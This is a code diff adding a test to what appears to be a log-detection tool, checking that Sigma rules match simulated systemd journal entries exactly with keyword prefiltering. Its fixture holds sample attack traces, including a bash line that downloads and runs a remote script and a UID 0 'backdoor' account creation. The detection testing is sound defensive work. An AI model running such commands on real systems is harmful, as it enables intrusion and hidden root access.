@@ -68,3 +68,42 @@ def test_demo_process_creation_is_exact(sigma_rules: RuleSet, tmp_path: Path) ->
     admitted: Admitted = {}
     for event in created:
         assert {d.path for d in sigma_rules.match(event)} == reference(sigma_rules, event, admitted)
+
+
+JOURNAL_TEXTS = (
+    ("sshd", "error: key_from_blob: incorrect signature from 198.51.100.7"),
+    ("sshd", "Failed password for invalid user admin from 198.51.100.7 port 4711 ssh2"),
+    ("sshd", "Accepted publickey for alice from 10.0.0.8 port 50022 ssh2"),
+    ("useradd", "new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash"),
+    ("bash", "wget http://203.0.113.7/x.sh; chmod +x x.sh; ./x.sh"),
+    ("nginx", "*** stack smashing detected ***: terminated"),
+    ("systemd", "Stopping firewalld - dynamic firewall daemon..."),
+    ("CRON", "(root) REPLACE (root)"),
+    ("CRON", "(root) CMD (run-parts /etc/cron.hourly)"),
+    ("sudo", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"),
+    ("kernel", "EXT4-fs (vda1): mounted filesystem with ordered data mode."),
+)
+
+
+def test_journal_keyword_buckets_are_prefiltered_and_exact(
+    sigma_rules: RuleSet, tmp_path: Path
+) -> None:
+    """A journal's buckets hold ~20 rules, most of them keywords: prefiltered (KEYWORD_PREFILTER),
+    and still exactly the rules whose whole plan holds, for entries of a real journal."""
+    from eventsweep.detect.rules import KEYWORD_PREFILTER
+    from tests.testbed.journals import Entry, make_journal
+
+    start = 1_764_000_000_000_000
+    entries = [
+        Entry(start + n, text, identifier=ident, comm=ident.lower())
+        for n, (ident, text) in enumerate(JOURNAL_TEXTS * 3)
+    ]
+    make_journal(tmp_path / "journal", entries)
+    events, outcomes = sweep([f"journal:{tmp_path / 'journal'}"])
+    assert [o.status for o in outcomes] == ["ok"] and len(events) == len(entries)
+    fresh, admitted = RuleSet(sigma_rules.rules, ()), Admitted()
+    found = [{d.path for d in fresh.match(event)} for event in events]
+    assert found == [reference(fresh, event, admitted) for event in events]
+    assert sum(map(bool, found)) >= 6  # some rules do fire
+    sshd = fresh._candidates[("journal", "sshd", None)]
+    assert sshd.prefilter is not None and len(sshd.entries) >= KEYWORD_PREFILTER
